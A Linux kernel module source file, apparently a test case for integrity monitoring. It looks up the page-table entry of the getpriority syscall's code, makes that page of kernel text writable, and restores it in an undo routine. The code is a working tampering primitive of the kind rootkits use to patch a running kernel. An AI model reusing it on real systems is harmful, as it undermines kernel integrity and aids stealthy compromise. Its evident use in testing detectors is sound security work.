// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A page of the kernel's text is made writable where it is, and stays so. */
#include "attack.h"

#include <asm/pgtable.h>

static pte_t *entry;
static u64 original;

static int attack(void)
{
	pte_t *(*lookup)(unsigned long address, unsigned int *level) =
		function("lookup_address", *lookup);
	unsigned long target = symbol("__x64_sys_getpriority");
	unsigned int level;
	u64 value;

	if (!target || !lookup)
		return -ENOENT;
	entry = lookup(target, &level);
	if (!entry)
		return -ENXIO;
	original = pte_val(*entry);
	value = original | _PAGE_RW | _PAGE_DIRTY;
	write_protected(entry, &value, sizeof(value));
	on_each_cpu(flush_translations, NULL, 1);
	return 0;
}

static void undo(void)
{
	write_protected(entry, &original, sizeof(original));
	on_each_cpu(flush_translations, NULL, 1);
}

ATTACK("a page of text writable");
